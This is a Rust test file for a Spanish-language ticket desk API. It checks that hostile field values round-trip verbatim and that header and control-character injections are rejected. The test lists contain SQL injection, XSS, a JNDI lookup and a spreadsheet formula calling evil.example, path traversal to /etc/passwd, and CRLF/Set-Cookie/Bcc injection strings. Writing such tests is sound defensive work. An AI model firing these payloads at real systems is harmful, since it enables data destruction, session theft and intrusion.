//! What stands in the fields.

use serde_json::json;

use crate::{
    common::{http::Request, program::Desk, seed, seed_with},
    pairs, round_trip,
};

#[tokio::test]
async fn texts_come_back_exactly_as_they_were_given() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    for text in [
        "'; DROP TABLE tickets; --",
        "\" OR \"1\"=\"1\" UNION SELECT * FROM intake",
        "Robert'); DELETE FROM events WHERE ('1'='1",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>&amp;&#60;",
        "{{7*7}} ${jndi:ldap://evil.example/a} %{1+1} #{x}",
        "=HYPERLINK(\"http://evil.example\")",
        "..\\..\\..\\..\\etc\\passwd /../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b \\u0000 \\r\\n",
        "null",
        "undefined",
        "NaN",
        "true",
        "-1e308",
        "\u{202e}txt.exe\u{202c} שלום עליכם مرحبا",
        "👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇴 👍🏽 e\u{301}\u{327} Z̸̢̛a̷̧l̵g̴o̵",
        "\u{feff}con marca\u{200b}de\u{2060}orden\u{ad}",
        "ﬁ Å Å ß ẞ İ ı ǆ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ｆｕｌｌ",
        "\u{fffd}\u{fffe}\u{10ffff}\u{e000}",
        "日本語 漢字 한국어 ไทย हिन्दी ᚠᛇᚻ",
        "a\u{a0}b\u{2003}c\u{3000}d\u{2028}e\u{2029}f",
    ] {
        let form = seed_with(&json!({
            "nombre": text, "categoria": text, "subcategoria": text, "asunto": text, "empresaDepartamento": text,
            "areaAsignada": text, "descripcion": format!("Descripción: {text}"),
        }));
        let found = round_trip(&mut client, &form).await;
        for name in ["solicitanteNombre", "categoria", "subcategoria", "asunto", "empresaDepartamento", "areaAsignada"]
        {
            assert_eq!(found[name], text, "{name}");
        }
        assert_eq!(found["descripcionProblema"], format!("Descripción: {text}"));
        assert_eq!(found["ultimoActorNombre"], text);

        let comment = json!({ "label": found["ticketLabel"], "email": form["email"], "mensaje": text });
        client.post("/api/tickets/comentar", &comment).await.ok();
        let look_up = json!({ "label": found["ticketLabel"], "email": form["email"] });
        assert_eq!(client.post("/api/tickets/consultar", &look_up).await.ok()["ultimoMotivo"], text);
    }
    // The same, escaped as JSON may be.
    let mut body = seed().to_string();
    body = body.replace("Ana García", r"\u0041n\u0061 \ud83e\udd80 \/ \\ \u0022");
    let created = client.ask(&Request::post("/api/tickets/crear", body)).await.ok();
    let look_up = json!({ "label": created["ticketLabel"], "email": seed()["email"] });
    let found = client.post("/api/tickets/consultar", &look_up).await.ok();
    assert_eq!(found["solicitanteNombre"], "Ana 🦀 / \\ \"");
}

#[tokio::test]
async fn line_breaks_are_kept_where_lines_may_be_and_break_no_header_anywhere() {
    let desk = Desk::new();
    let server = desk.serve();
    let mut client = server.connect().await;
    let injected = "hola\r\nSet-Cookie: session=evil\r\n\r\n<html>";
    let found = round_trip(&mut client, &seed_with(&json!({ "descripcion": injected }))).await;
    assert_eq!(found["descripcionProblema"], injected);

    for field in ["nombre", "categoria", "prioridad", "telefono", "documento", "asunto", "areaAsignada"] {
        let text = if field == "prioridad" || field == "telefono" { "a\r\nX: y" } else { injected };
        let answer = client.post("/api/tickets/crear", &seed_with(&json!({ field: text }))).await;
        assert_eq!(answer.violations(), pairs([field], "control-character"));
        assert_eq!(answer.header("set-cookie"), None);
    }
    let answer =
        client.post("/api/tickets/crear", &seed_with(&json!({ "email": "a@b.example\r\nBcc: c@d.example" }))).await;
    assert_eq!(answer.violations(), pairs(["email"], "invalid-email"));
    for control in ["\u{0}", "\u{1b}[31m", "\u{7f}", "\u{85}", "\u{8}"] {
        let text = format!("texto con {control} dentro");
        let answer = client.post("/api/tickets/crear", &seed_with(&json!({ "descripcion": text }))).await;
        assert_eq!(answer.violations(), pairs(["descripcion"], "control-character"));
    }
}
